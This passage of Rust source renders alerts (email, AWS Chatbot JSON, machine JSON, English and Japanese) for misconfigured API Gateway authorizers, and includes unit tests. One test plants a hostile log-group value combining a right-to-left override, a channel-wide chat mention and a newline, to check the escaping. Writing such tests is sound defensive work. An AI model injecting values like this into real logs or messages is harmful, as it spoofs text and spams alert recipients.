        machine: json_safe(&machine.to_string()).into_owned(),
        email: text,
        chat: chat.to_string(),
        subject,
    }
}

/// A chat description led by the configured mention when `severity` reaches it.
pub(crate) fn mentioned(config: &Config, severity: Severity, description: String) -> String {
    match config.mention_for(severity) {
        Some(mention) => format!("{}\n{description}", mention.as_str()),
        None => description,
    }
}

/// A thread id longer than this ends in a digest of the whole key instead.
const MAX_THREAD_BYTES: usize = 128;

/// The chat thread of a problem: its flood-control key (the API, else the log group, in its
/// account), so every alert about it, whatever the batch, the cause and the log that saw it, and
/// however its message was trimmed, and the note that it is over land in one thread
/// (<https://docs.aws.amazon.com/chatbot/latest/adminguide/custom-notifs.html>).
pub fn thread_id(key: &str) -> String {
    let shown = ascii(key);
    if shown.len() <= MAX_THREAD_BYTES && shown == key {
        return shown;
    }
    // Cut on a character boundary of printable ASCII, and told apart by the digest of the key.
    format!(
        "{}~{:016x}",
        &shown[..shown.len().min(MAX_THREAD_BYTES - 17)],
        fnv1a(key.as_bytes())
    )
}

/// One notification's id: its thread and a digest of what it reports, its first line's event id
/// above all, so a batch delivered again gives the same id and another batch of the same problem
/// a new one, even with no request ids kept.
fn event_id(thread: &str, g: &Group) -> String {
    let mut seen = Vec::new();
    for part in [
        g.first_event_id.as_deref().unwrap_or(""),
        g.log_group.as_deref().unwrap_or(""),
        g.count.to_string().as_str(),
        g.first_seen.as_deref().unwrap_or(""),
        g.last_seen.as_deref().unwrap_or(""),
    ]
    .into_iter()
    .chain(g.sample_request_ids.iter().map(String::as_str))
    {
        seen.extend_from_slice(part.as_bytes());
        seen.push(0);
    }
    format!("{thread}#{:016x}", fnv1a(&seen))
}

/// FNV-1a, 64 bits (<http://www.isthe.com/chongo/tech/comp/fnv/>): a digest that stays the same
/// across builds and releases, which thread and event ids need and the standard hasher does not
/// promise.
pub(crate) fn fnv1a(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf2_9ce4_8422_2325, |h, b| {
        (h ^ u64::from(*b)).wrapping_mul(0x0000_0100_0000_01b3)
    })
}

/// `[label] API authorizer misconfigured: missing invoke permission (12x)`: printable ASCII, fewer
/// than 100 characters, and always ending with the count, which is what a reader needs most.
pub fn subject(group: &Group, label: Option<&str>) -> String {
    fit_subject(
        label,
        group.cause.subject_lead(),
        group.cause.subject_words(),
        &format!(" ({}x)", group.count),
    )
}

/// `[label] ` + `lead` + `words` + `tail` within [`MAX_SUBJECT_CHARS`]: the tail is kept whole, the
/// label is shortened first (down to [`MIN_SUBJECT_LABEL`]), then the lead and words, then the
/// rest of the label. Any label is made printable ASCII; one that is empty then is left out.
pub(crate) fn fit_subject(label: Option<&str>, lead: &str, words: &str, tail: &str) -> String {
    let tail = ascii(tail);
    let body = ascii(&format!("{lead}{words}"));
    let label = label.map(|l| ascii(l.trim())).unwrap_or_default();
    let label = label.trim();
    // Room for the label's text once the brackets and the space are counted.
    let room = MAX_SUBJECT_CHARS.saturating_sub(body.len() + tail.len() + 3);
    let label_len = label
        .len()
        .min(room.max(MIN_SUBJECT_LABEL))
        .min(MAX_SUBJECT_CHARS.saturating_sub(tail.len() + 3));
    let mut s = String::with_capacity(MAX_SUBJECT_CHARS);
    let shown = label[..label_len].trim_end();
    if !shown.is_empty() {
        s.push('[');
        s.push_str(shown);
        s.push_str("] ");
    }
    let body_room = MAX_SUBJECT_CHARS.saturating_sub(s.len() + tail.len());
    s.push_str(body[..body.len().min(body_room)].trim_end());
    s.push_str(&tail);
    s.truncate(MAX_SUBJECT_CHARS);
    s
}

/// A CloudWatch console link to the log group (the console encodes `%` as `$25`). Every byte but
/// `[A-Za-z0-9._-]` of the group is percent-encoded; a region without its shape, or a group longer
/// than CloudWatch Logs allows (512), gives no link.
pub fn console_url(region: Option<&str>, log_group: Option<&str>) -> Option<String> {
    let region = region.filter(|r| shape::is_region(r))?;
    let group = log_group.filter(|g| (1..=512).contains(&g.len()))?;
    let mut encoded = String::new();
    for b in group.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.') {
            encoded.push(b as char);
        } else {
            encoded.push_str(&format!("$25{b:02X}"));
        }
    }
    Some(format!(
        "https://{region}.console.aws.amazon.com/cloudwatch/home?region={region}#logsV2:log-groups/log-group/{encoded}"
    ))
}

/// The group for programs, with the rendered text so a consumer can forward it as it is.
///
/// Log text stays as the log had it (bounded like the rest): programs match on it, and the
/// caller writes every character that could fake structure as a JSON `\uXXXX` escape
/// ([`json_safe`]), so a parser gets the exact text and a person reading the raw message sees
/// nothing raw.
fn machine_json(view: &View, subject: &str, text: &str) -> serde_json::Value {
    let g = view.group;
    json!({
        "type": "authorizer_configuration_error",
        "subject": subject,
        "label": view.label,
        "cause": g.cause,
        "severity": view.severity,
        "title": g.cause.title(Language::En),
        "count": g.count,
        "statuses": view.statuses.shown,
        "other_statuses": view.statuses.other,
        "first_seen": view.first_seen,
        "last_seen": view.last_seen,
        "log_group": view.log_group,
        "account_id": view.account_id,
        "region": view.region,
        "api_ids": view.api_ids,
        "stages": view.stages,
        "routes": view.routes,
        "errors": view.errors,
        "sample_request_ids": view.samples,
        "omitted_request_ids": view.omitted_samples,
        "remedy": view.remedy,
        "diagnosis": view.diagnosis,
        "suppressed_before": view.suppressed_before,
        "unverified_requests": view.group.unverified,
        "drift": view.drift,
        "console_url": view.console_url,
        "text": text,
    })
}

struct Words {
    when: &'static str,
    log_group: &'static str,
    api: &'static str,
    routes: &'static str,
    samples: &'static str,
    error: &'static str,
    fix: &'static str,
    command: &'static str,
    console: &'static str,
    code: &'static str,
    more: &'static str,
    since_last: &'static str,
    recovered: &'static str,
    account: &'static str,
    unmatched: &'static str,
    format: &'static str,
    sample_line: &'static str,
    unverified: &'static str,
    unverified_text: &'static str,
}

const EN: Words = Words {
    when: "When",
    log_group: "Log group",
    api: "API",
    routes: "Routes",
    samples: "Sample request ids",
    error: "Error written by API Gateway",
    fix: "How to fix",
    command: "Command",
    console: "Open the log group",
    code: "Cause code",
    more: "more",
    since_last: "Since the last alert",
    recovered: "Recovered",
    account: "account",
    unmatched: "Lines not read",
    format: "Format the forwarder was given",
    sample_line: "First such line, as logged",
    unverified: "Unverified",
    unverified_text: "read without the stage's access-log format (or from a saved execution log that lost where events end), so a client could have written them; scan with --format to verify",
};

const JA: Words = Words {
    when: "日時",
    log_group: "ロググループ",
    api: "API",
    routes: "ルート",
    samples: "リクエスト ID の例",
    error: "API Gateway が記録したエラー",
    fix: "対処方法",
    command: "コマンド",
    console: "ロググループを開く",
    code: "原因コード",
    more: "件ほか",
    since_last: "前回のアラート以降",
    recovered: "復旧",
    account: "アカウント",
    unmatched: "読めなかった行",
    format: "フォワーダーに設定された形式",
    sample_line: "該当する最初の行 (記録されたまま)",
    unverified: "未検証",
    unverified_text: "ステージのアクセスログ形式なしで (またはイベントの区切りを失った保存済み実行ログから) 読んだ行で、クライアントが書いた可能性があります。--format を指定して検証してください",
};

impl Words {
    /// What the quoted texts are: API Gateway's errors, or lines that did not follow the format.
    fn error_label(&self, view: &View) -> &'static str {
        if view.drift.is_some() {
            self.sample_line
        } else {
            self.error
        }
    }
}

fn words(lang: Language) -> &'static Words {
    match lang {
        Language::En => &EN,
        Language::Ja => &JA,
    }
}

fn when(view: &View) -> String {
    match (&view.first_seen, &view.last_seen) {
        (Some(a), Some(b)) if a != b => format!("{} - {}", visible(a), visible(b)),
        (Some(a), _) => visible(a).into_owned(),
        _ => "-".to_owned(),
    }
}

fn email_text(view: &View, lang: Language) -> String {
    let g = view.group;
    let w = words(lang);
    let mut t = String::new();
    let line = |t: &mut String, k: &str, v: &str| t.push_str(&format!("{k}: {v}\n"));
    t.push_str(g.cause.title(lang));
    t.push_str("\n\n");
    t.push_str(g.cause.explanation(lang));
    t.push_str("\n\n");
    match &view.drift {
        Some(d) => {
            line(&mut t, w.unmatched, &unmatched_text(g.count, d, lang));
            line(&mut t, w.format, &visible(&d.format));
        }
        None => {
            t.push_str(&failed_text(g.count, &view.statuses, lang));
            t.push('\n');
            line(&mut t, w.when, &when(view));
        }
    }
    if g.unverified > 0 {
        line(
            &mut t,
            w.unverified,
            &format!("{} / {}: {}", g.unverified, g.count, w.unverified_text),
        );
    }
    if let Some(p) = &view.suppressed_before {
        line(&mut t, w.since_last, &suppressed_text(p, lang));
    }
    if let Some(lg) = &view.log_group {
        line(&mut t, w.log_group, &visible(lg));
    }
    if !view.api_ids.is_empty() {
        let stages = if view.stages.is_empty() {
            String::new()
        } else {
            format!(" ({})", visible(&view.stages.join(", ")))
        };
        line(
            &mut t,
            w.api,
            &format!("{}{stages}", visible(&view.api_ids.join(", "))),
        );
    }
    if !view.routes.is_empty() {
        line(&mut t, w.routes, &visible(&view.routes.join(", ")));
    }
    if !view.samples.is_empty() {
        let mut ids = visible(&view.samples.join(", ")).into_owned();
        if view.omitted_samples > 0 {
            ids.push_str(&format!(" (+{} {})", view.omitted_samples, w.more));
        }
        line(&mut t, w.samples, &ids);
    }
    let error_label = w.error_label(view);
    t.push_str(&format!("\n{error_label}:\n"));
    for e in &view.errors {
        t.push_str(&format!(
            "  {}\n",
            visible(if e.is_empty() { "-" } else { e })
        ));
    }
    if let Some(d) = &view.diagnosis {
        t.push('\n');
        t.push_str(&diagnosis_text(d));
    }
    t.push_str(&format!("\n{}:\n", w.fix));
    for (i, step) in view.remedy.steps.iter().enumerate() {
        t.push_str(&format!("  {}. {step}\n", i + 1));
    }
    let commands = commands(view);
    if !commands.is_empty() {
        t.push_str(&format!("\n{}:\n", w.command));
        for cmd in commands {
            t.push_str(&format!("  {}\n", visible(cmd)));
        }
    }
    if let Some(url) = &view.console_url {
        t.push_str(&format!("\n{}: {url}\n", w.console));
    }
    t.push_str(&format!("\n{}: {}\n", w.code, g.cause.code()));
    t
}

/// `n` and the noun for it: `1 request`, `2 requests`.
fn counted(n: impl Into<u128>, one: &str, many: &str) -> String {
    let n = n.into();
    format!("{n} {}", if n == 1 { one } else { many })
}

/// `3 requests failed: 2 with HTTP 500, 1 with HTTP 503`, or `1 request failed with HTTP 503`:
/// the failed requests by the status their lines logged, never a status no line logged.
fn failed_text(count: usize, statuses: &StatusView, lang: Language) -> String {
    let requests = counted(count as u64, "request", "requests");
    let status = |s: &StatusCount| match (s.status, lang) {
        (Some(code), _) => format!("HTTP {code}"),
        (None, Language::En) => "status not logged".to_owned(),
        (None, Language::Ja) => "ステータス記録なし".to_owned(),
    };
    match (statuses.shown.as_slice(), statuses.other, lang) {
        ([], _, Language::En) => format!("{requests} failed"),
        ([], _, Language::Ja) => format!("{count} 件のリクエストが失敗"),
        ([one], None, Language::En) if one.status.is_some() => {
            format!("{requests} failed with {}", status(one))
        }
        ([one], None, Language::En) => format!("{requests} failed, {}", status(one)),
        ([one], None, Language::Ja) if one.status.is_some() => {
            format!("{count} 件のリクエストが {} で失敗", status(one))
        }
        ([one], None, Language::Ja) => format!("{count} 件のリクエストが失敗 ({})", status(one)),
        (shown, other, Language::En) => {
            let mut parts: Vec<String> = shown
                .iter()
                .map(|s| format!("{} with {}", s.requests, status(s)))
                .collect();
            if let Some(o) = other {
                parts.push(format!(
                    "{} with {}",
                    o.requests,
                    counted(o.statuses as u64, "other status", "other statuses")
                ));
            }
            format!("{requests} failed: {}", parts.join(", "))
        }
        (shown, other, Language::Ja) => {
            let mut parts: Vec<String> = shown
                .iter()
                .map(|s| match s.status {
                    Some(_) => format!("{} が {} 件", status(s), s.requests),
                    None => format!("{}が {} 件", status(s), s.requests),
                })
                .collect();
            if let Some(o) = other {
                parts.push(format!(
                    "その他 {} 種類のステータスが {} 件",
                    o.statuses, o.requests
                ));
            }
            format!("{count} 件のリクエストが失敗: {}", parts.join("、"))
        }
    }
}

/// `2 / 3 lines carrying the token do not follow the format`.
fn unmatched_text(count: usize, drift: &Drift, lang: Language) -> String {
    match lang {
        Language::En => format!(
            "{count} / {} carrying the token {} not follow the format",
            counted(drift.with_token as u64, "line", "lines"),
            if count == 1 { "does" } else { "do" }
        ),
        Language::Ja => format!(
            "{count} / {} 行 (トークンを含む行のうち形式に従っていない行)",
            drift.with_token
        ),
    }
}

/// `297 more failed requests were not alerted on (flood control), in batches: 99 (ids: ...)`.
fn suppressed_text(p: &Suppressed, lang: Language) -> String {
    let mut t = match lang {
        Language::En => format!(
            "{} more failed {} not alerted on (flood control), in batches: {}",
            p.failed_requests,
            if p.failed_requests == 1 {
                "request was"
            } else {
                "requests were"
            },
            p.batches
        ),
        Language::Ja => format!(
            "{} 件の失敗リクエストは通知を抑制しました (フラッド制御)。バッチ数: {}",
            p.failed_requests, p.batches
        ),
    };
    if !p.sample_request_ids.is_empty() {
        t.push_str(&format!(" ({})", visible(&p.sample_request_ids.join(", "))));
    }
    t
}

/// The exact commands the diagnosis found, else the remedy's template.
fn commands<'v>(view: &'v View) -> Vec<&'v str> {
    let exact = view
        .diagnosis
        .as_ref()
        .map(Diagnosis::commands)
        .unwrap_or_default();
    if exact.is_empty() {
        view.remedy
            .command
            .as_deref()
            .filter(|cmd| is_shown_command(cmd))
            .into_iter()
            .collect()
    } else {
        exact
    }
}

/// The diagnosis for people, in English: it quotes the API's own names and AWS's own errors.
pub fn diagnosis_text(d: &Diagnosis) -> String {
    match d {
        Diagnosis::Unavailable { reason } => {
            format!("Diagnosis unavailable: {}\n", visible(reason))
        }
        Diagnosis::Checked {
            api_id,
            api_kind,
            authorizers,
        } if authorizers.is_empty() => format!(
            "Diagnosis ({} {}, live configuration): the routes checked use no Lambda authorizer (a JWT, Cognito or IAM authorizer, or none).\n",
            api_kind.title(),
            visible(api_id)
        ),
        Diagnosis::Checked {
            api_id,
            api_kind,
            authorizers,
        } => {
            let mut t = format!(
                "Diagnosis ({} {}, live configuration):\n",
                api_kind.title(),
                visible(api_id)
            );
            for a in authorizers {
                t.push_str(&format!(
                    "  route {} -> authorizer {} ({}) -> function {}\n",
                    visible(&a.routes.join(", ")),
                    visible(&a.name),
                    visible(&a.authorizer_id),
                    visible(a.function_arn.as_deref().unwrap_or("-")),
                ));
                for c in &a.checks {
                    let mark = if c.ok { "ok" } else { "PROBLEM" };
                    t.push_str(&format!("    {mark}: {}\n", visible(&c.summary)));
                }
            }
            t
        }
    }
}

fn diagnosis_chat(d: &Diagnosis) -> String {
    match d {
        Diagnosis::Unavailable { reason } => {
            format!(
                "• *Diagnosis unavailable:* {}\n",
                chat_text(&visible(reason))
            )
        }
        Diagnosis::Checked {
            api_id,
            api_kind,
            authorizers,
        } => {
            let mut t = format!(
                "• *Diagnosis* ({} {}):\n",
                api_kind.title(),
                chat_code(api_id)
            );
            for a in authorizers {
                t.push_str(&format!(
                    "  {} → authorizer {} ({}) → {}\n",
                    chat_code(&a.routes.join(", ")),
                    chat_code(&a.name),
                    chat_code(&a.authorizer_id),
                    chat_code(a.function_arn.as_deref().unwrap_or("-")),
                ));
                for c in &a.checks {
                    let mark = if c.ok { ":white_check_mark:" } else { ":x:" };
                    t.push_str(&format!("    {mark} {}\n", chat_text(&visible(&c.summary))));
                }
            }
            t
        }
    }
}

fn chat_json(view: &View, config: &Config, subject: &str) -> serde_json::Value {
    let g = view.group;
    let lang = config.language;
    let w = words(lang);
    let mut d = String::new();
    d.push_str(&format!(
        "*{}*\n{}\n",
        g.cause.title(lang),
        g.cause.explanation(lang)
    ));
    match &view.drift {
        Some(drift) => {
            d.push_str(&format!(
                "• *{}:* {}\n",
                w.unmatched,
                unmatched_text(g.count, drift, lang)
            ));
            d.push_str(&format!("• *{}:* {}\n", w.format, chat_code(&drift.format)));
        }
        None => {
            d.push_str(&format!(
                "• {}\n",
                failed_text(g.count, &view.statuses, lang)
            ));
            d.push_str(&format!("• *{}:* {}\n", w.when, chat_code(&when(view))));
        }
    }
    if g.unverified > 0 {
        d.push_str(&format!(
            "• *{}:* {} / {}: {}\n",
            w.unverified, g.unverified, g.count, w.unverified_text
        ));
    }
    if let Some(p) = &view.suppressed_before {
        d.push_str(&format!(
            "• *{}:* {}\n",
            w.since_last,
            chat_text(&suppressed_text(p, lang))
        ));
    }
    if let Some(lg) = &view.log_group {
        d.push_str(&format!("• *{}:* {}\n", w.log_group, chat_code(lg)));
    }
    if !view.api_ids.is_empty() {
        d.push_str(&format!(
            "• *{}:* {}\n",
            w.api,
            chat_code(&view.api_ids.join(", "))
        ));
    }
    if !view.routes.is_empty() {
        d.push_str(&format!(
            "• *{}:* {}\n",
            w.routes,
            chat_code(&view.routes.join(", "))
        ));
    }
    if !view.samples.is_empty() {
        d.push_str(&format!(
            "• *{}:* {}\n",
            w.samples,
            chat_code(&view.samples.join(", "))
        ));
    }
    let error_label = w.error_label(view);
    for e in &view.errors {
        d.push_str(&format!("• *{error_label}:* {}\n", chat_code(e)));
    }
    if let Some(url) = &view.console_url {
        d.push_str(&format!("<{url}|{}>\n", w.console));
    }
    if let Some(diag) = &view.diagnosis {
        d.push_str(&diagnosis_chat(diag));
    }
    let mut next_steps: Vec<String> = view.remedy.steps.iter().map(|s| chat_text(s)).collect();
    for cmd in commands(view) {
        next_steps.push(format!("{}: {}", w.command, chat_block(cmd)));
    }
    let thread = thread_id(&flood::key(g));
    let event = event_id(&thread, g);
    let description = mentioned(config, view.severity, d);
    json!({
        "version": "1.0",
        "source": "custom",
        "id": event,
        "content": {
            "textType": "client-markdown",
            "title": format!(":rotating_light: {}", chat_text(subject)),
            "description": description,
            "nextSteps": next_steps,
        },
        "metadata": {
            "threadId": thread,
            "summary": subject,
            "eventType": "AuthorizerConfigurationError",
            "additionalContext": {
                "cause": g.cause.code(),
                "count": g.count.to_string(),
                "log_group": view.log_group.as_deref().map(attribute).unwrap_or_default(),
            },
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::FindingText;

    fn finding(cause: Cause, group: &str, id: &str, ts: i64) -> Finding {
        let mut f = Finding::new(
            cause,
            FindingText {
                request_id: Some(id),
                time: Some(&format!("t{ts}")),
                error: "AUTHORIZER text",
                route: Some("GET /orders"),
                api_id: Some("a1b2c3"),
                stage: Some("prod"),
                account_id: Some("123456789012"),
                ..FindingText::default()
            },
        );
        f.status = Some(500);
        f.log_group = Some(group.into());
        f.timestamp = Some(ts);
        f
    }

    /// The same finding with some text fields changed.
    fn with<'a>(f: &'a Finding, change: impl FnOnce(&mut FindingText<'a>)) -> Finding {
        let mut text = f.text();
        change(&mut text);
        let mut changed = Finding::new(f.cause, text);
        changed.status = f.status;
        changed.log_group = f.log_group.clone();
        changed.timestamp = f.timestamp;
        changed
    }

    /// A group none of whose lines was read by the stage's format is never alerted above a
    /// warning, and says so in every rendering; one verified line keeps its cause's severity.
    #[test]
    fn unverified_findings_are_at_most_a_warning_and_say_so() {
        let mut unverified = finding(Cause::MissingInvokePermission, "/aws/api/prod", "r1", 1);
        unverified.verified = false;
        let verified = finding(Cause::MissingInvokePermission, "/aws/api/prod", "r2", 2);
        for (findings, severity, said) in [
            (vec![unverified.clone()], "warning", Some("1 / 1")),
            (
                vec![unverified.clone(), unverified.clone()],
                "warning",
                Some("2 / 2"),
            ),
            (
                vec![unverified.clone(), verified.clone()],
                "critical",
                Some("1 / 2"),
            ),
            (vec![verified.clone()], "critical", None),
        ] {
            let groups = group(&findings, 5);
            let alert = render(&groups[0], &config());
            assert_eq!(alert.attributes.severity, severity, "{said:?}");
            let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
            let count = findings.iter().filter(|f| !f.verified).count();
            assert_eq!(machine["unverified_requests"], count, "{said:?}");
            match said {
                Some(said) => {
                    assert!(
                        alert.email.contains(&format!("Unverified: {said}")),
                        "{}",
                        alert.email
                    );
                    assert!(
                        alert.chat.contains(&format!("Unverified:* {said}")),
                        "{}",
                        alert.chat
                    );
                }
                None => assert!(!alert.email.contains("Unverified"), "{}", alert.email),
            }
        }
    }

    fn config() -> Config {
        Config {
            label: Some("prod".into()),
            region: Some("eu-west-1".into()),
            max_samples: 2,
            ..Config::default()
        }
    }

    #[test]
    fn groups_by_log_group_and_cause() {
        let findings = vec![
            finding(Cause::MissingInvokePermission, "/a", "r1", 3),
            finding(Cause::MissingInvokePermission, "/a", "r2", 1),
            finding(Cause::MissingInvokePermission, "/a", "r3", 5),
            finding(Cause::InvalidResponseFormat, "/a", "r4", 2),
            finding(Cause::MissingInvokePermission, "/b", "r5", 2),
        ];
        let groups = group(&findings, 2);
        assert_eq!(groups.len(), 3);
        let a = &groups[0];
        assert_eq!(
            (a.cause, a.log_group.as_deref(), a.count),
            (Cause::MissingInvokePermission, Some("/a"), 3)
        );
        assert_eq!(a.sample_request_ids, ["r1", "r2"]);
        assert_eq!(a.first_seen.as_deref(), Some("t1"));
        assert_eq!(a.last_seen.as_deref(), Some("t5"));
        assert_eq!(a.routes, ["GET /orders"]);
        assert_eq!(groups[1].log_group.as_deref(), Some("/b"));
        assert_eq!(groups[2].cause, Cause::InvalidResponseFormat);
    }

    #[test]
    fn renders_three_bodies() {
        let groups = group(
            &[finding(
                Cause::MissingInvokePermission,
                "/aws/api/prod",
                "r1",
                1,
            )],
            5,
        );
        let alert = render(&groups[0], &config());
        assert_eq!(
            alert.subject,
            "[prod] API authorizer misconfigured: missing invoke permission (1x)"
        );
        assert_eq!(alert.attributes.cause, "missing_invoke_permission");
        assert_eq!(alert.attributes.severity, "critical");
        assert!(alert.email.contains("aws lambda add-permission"));
        assert!(alert.email.contains(
            "arn:aws:execute-api:eu-west-1:123456789012:a1b2c3/authorizers/AUTHORIZER_ID"
        ));
        assert!(alert.email.contains("log-group/$252Faws$252Fapi$252Fprod"));
        let chat: serde_json::Value = serde_json::from_str(&alert.chat).unwrap();
        assert_eq!(chat["version"], "1.0");
        assert_eq!(chat["source"], "custom");
        assert_eq!(chat["content"]["textType"], "client-markdown");
        assert!(chat["content"]["nextSteps"].as_array().unwrap().len() >= 2);
        let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
        assert_eq!(machine["cause"], "missing_invoke_permission");
        assert_eq!(machine["count"], 1);
        let message: serde_json::Value = serde_json::from_str(&alert.message()).unwrap();
        for key in ["default", "email", "https", "sqs", "lambda"] {
            assert!(message[key].is_string(), "{key}");
        }
    }

    /// The statuses as the lines logged them, counted, with a noun that agrees with its number,
    /// in every body; never a status no line logged.
    #[test]
    fn alerts_state_the_statuses_as_logged() {
        let five_hundreds: Vec<Option<u16>> = (500..520).map(Some).collect();
        let cases: [(&[Option<u16>], &str, &str); 8] = [
            (
                &[Some(500)],
                "1 request failed with HTTP 500",
                "1 件のリクエストが HTTP 500 で失敗",
            ),
            (
                &[Some(503)],
                "1 request failed with HTTP 503",
                "1 件のリクエストが HTTP 503 で失敗",
            ),
            (
                &[Some(503), Some(503)],
                "2 requests failed with HTTP 503",
                "2 件のリクエストが HTTP 503 で失敗",
            ),
            (
                &[Some(503), Some(500), Some(500)],
                "3 requests failed: 2 with HTTP 500, 1 with HTTP 503",
                "3 件のリクエストが失敗: HTTP 500 が 2 件、HTTP 503 が 1 件",
            ),
            (
                &[None],
                "1 request failed, status not logged",
                "1 件のリクエストが失敗 (ステータス記録なし)",
            ),
            (
                &[None, None],
                "2 requests failed, status not logged",
                "2 件のリクエストが失敗 (ステータス記録なし)",
            ),
            (
                &[None, Some(401), Some(500)],
                "3 requests failed: 1 with HTTP 401, 1 with HTTP 500, 1 with status not logged",
                "3 件のリクエストが失敗: HTTP 401 が 1 件、HTTP 500 が 1 件、ステータス記録なしが 1 件",
            ),
            (
                &five_hundreds,
                "20 requests failed: 1 with HTTP 500, 1 with HTTP 501, 1 with HTTP 502, 1 with HTTP 503, 1 with HTTP 504, 1 with HTTP 505, 1 with HTTP 506, 1 with HTTP 507, 1 with HTTP 508, 1 with HTTP 509, 10 with 10 other statuses\n",
                "その他 10 種類のステータスが 10 件",
            ),
        ];
        for (statuses, en, ja) in cases {
            let findings: Vec<Finding> = statuses
                .iter()
                .enumerate()
                .map(|(i, status)| {
                    let mut f = finding(Cause::Unknown, "/g", &format!("r{i}"), 1);
                    f.status = *status;
                    f
                })
                .collect();
            let g = group(&findings, 5).remove(0);
            let alert = render(&g, &config());
            assert!(alert.email.contains(en), "{en}\n{}", alert.email);
            let description = chat(&alert)["content"]["description"].to_string();
            assert!(description.contains(en.trim_end()), "{description}");
            let logged: Vec<u16> = statuses.iter().flatten().copied().collect();
            if !logged.contains(&500) {
                assert!(!alert.email.contains("HTTP 500"), "{}", alert.email);
                assert!(!description.contains("HTTP 500"), "{description}");
            }
            // Programs get every status, counted, adding up to the count.
            let machine: serde_json::Value = serde_json::from_str(&alert.machine).unwrap();
            let shown = machine["statuses"].as_array().unwrap();
            let other = machine["other_statuses"]["requests"].as_u64().unwrap_or(0);
            let sum: u64 = shown.iter().map(|s| s["requests"].as_u64().unwrap()).sum();
            assert_eq!(sum + other, statuses.len() as u64, "{en}");
            assert_eq!(machine["count"], statuses.len());
            let japanese = Config {
                language: Language::Ja,
                ..config()
            };
            let alert = render(&g, &japanese);
            assert!(alert.email.contains(ja), "{ja}\n{}", alert.email);
        }
        // What SNS refuses makes the message smaller, never the counts wrong.
        let mut g = group(&[finding(Cause::Unknown, "/g", "r", 1)], 5).remove(0);
        g.statuses = (0..=u16::MAX)
            .map(|s| StatusCount {
                status: Some(s),
                requests: 1,
            })
            .collect();
        g.count = g.statuses.len();
        let alert = render(&g, &config());
        assert!(alert.publish_bytes() < MAX_MESSAGE_BYTES);
        assert!(
            alert
                .email
                .contains("65536 requests failed: 1 with HTTP 0, "),
            "{}",
            alert.email
        );
        assert!(
            alert.email.contains("65526 with 65526 other statuses"),
            "{}",
            alert.email
        );
    }

    /// Groups of `n` distinct APIs in `log_groups` log groups, two lines each.
    fn many_groups(n: usize, log_groups: usize) -> Vec<Group> {
        let findings: Vec<Finding> = (0..n)
            .flat_map(|i| {
                let api = format!("{i:010}");
                let group = format!("/aws/api/{}", i % log_groups);
                let cause = if i % 2 == 0 {
                    Cause::MissingInvokePermission
                } else {
                    Cause::AuthorizerTimeout
                };
                let f = with(&finding(cause, &group, "r", 1), |t| t.api_id = Some(&api));
                [f.clone(), f]
            })
            .collect();
        group(&findings, 5)
    }

    /// Past MAX_ALERTS groups, one more alert tells how many problems and lines were left out,
    /// of which causes, for which APIs and log groups; at or below it, there is none.
    #[test]
    fn the_groups_past_the_cap_are_summarised_in_one_alert() {
        let cap = MAX_ALERTS;
        // Groups come in the order of causes: the missing permissions first, then the timeouts;
        // a summary's severity is its most severe problem's.
        for (n, log_groups, summary) in [
            (0, 1, None),
            (1, 1, None),
            (cap, 3, None),
            (
                cap + 1,
                1,
                Some((
                    "[prod] API authorizer alerts capped: 1 more problem summarised",
                    "high",
                )),
            ),
            (
                cap + 30,
                12,
                Some((
                    "[prod] API authorizer alerts capped: 30 more problems summarised",
                    "critical",
                )),
            ),
        ] {
            let groups = many_groups(n, log_groups);
            assert_eq!(groups.len(), n);
            let alerts = render_all(&groups, &config());
            assert_eq!(
                alerts.len(),
                n.min(cap) + usize::from(summary.is_some()),
                "{n}"
            );
            let Some((subject, severity)) = summary else {
                continue;
            };
            let last = alerts.last().unwrap();
            assert_eq!(last.subject, subject);
            assert_eq!(last.attributes.severity, severity);
            assert_subject(&last.subject, None);
            assert_publishable(last);
            assert_shown_safely(last);
            assert_eq!(last.attributes.cause, OVERFLOW_CAUSE_CODE);
            let o = overflow(&groups[cap..]).unwrap();
            let left = n - cap;
            assert_eq!((o.problems, o.lines), (left, 2 * left));
            let by_cause: usize = o.causes.iter().map(|c| c.lines).sum();
            assert_eq!(by_cause, o.lines);
            assert_eq!(o.api_ids.len() + o.more_apis, left);
            assert_eq!(o.api_ids.len(), left.min(OVERFLOW_NAMED));
            let machine: serde_json::Value = serde_json::from_str(&last.machine).unwrap();
            assert_eq!(machine["problems"], left);
            assert_eq!(machine["lines"], 2 * left);
            assert_eq!(machine["max_alerts"], cap);
            assert_eq!(machine["api_ids"][0], o.api_ids[0].as_str());
            let chat = chat(last);
            assert!(
                chat["content"]["description"]
                    .as_str()
                    .unwrap()
                    .contains(&problems_and_lines(left, 2 * left, Language::En)),
                "{chat}"
            );
        }
        // Plain grammar at one, and the names from the log escaped like any alert's.
        let one = many_groups(cap + 1, 1);
        let mut hostile = one.clone();
        hostile[cap].log_group = Some("/g\u{202e}<!channel>\n".to_owned());
        let alert = render_all(&hostile, &config()).pop().unwrap();
        assert!(
            alert.email.contains("Left out: 1 problem, 2 lines"),
            "{}",
            alert.email
        );
        assert_shown_safely(&alert);
        assert_publishable(&alert);
        let ja = Config {
            language: Language::Ja,
            ..config()
        };
        let alert = render_all(&one, &ja).pop().unwrap();
        assert!(
            alert.email.contains("省略: 問題 1 件、行 2 件"),
            "{}",
            alert.email
        );
    }

    /// Counts in sentences take the noun and verb their number needs.
    #[test]
    fn counts_agree_with_their_words() {
        let suppressed = |failed_requests| Suppressed {
            failed_requests,
            batches: 1,
            ..Suppressed::default()
        };
        let cases = [
            (
                suppressed_text(&suppressed(1), Language::En),
                "1 more failed request was not alerted on (flood control), in batches: 1",
            ),
            (
                suppressed_text(&suppressed(297), Language::En),
                "297 more failed requests were not alerted on (flood control), in batches: 1",
            ),
        ];
        for (got, want) in cases {
            assert_eq!(got, want);
        }
        let drift = |with_token| Drift {
            with_token,
            format: String::new(),
        };
        let cases = [
            (
                1,
                1,
                "1 / 1 line carrying the token does not follow the format",
            ),
            (
                1,
                3,
                "1 / 3 lines carrying the token does not follow the format",
            ),
            (
                2,
                3,
                "2 / 3 lines carrying the token do not follow the format",
            ),
        ];
        for (count, with_token, want) in cases {
            assert_eq!(
                unmatched_text(count, &drift(with_token), Language::En),
                want
            );
        }
    }

    #[test]
    fn japanese_keeps_an_ascii_subject() {
        let groups = group(&[finding(Cause::AuthorizerTimeout, "/g", "r", 1)], 5);
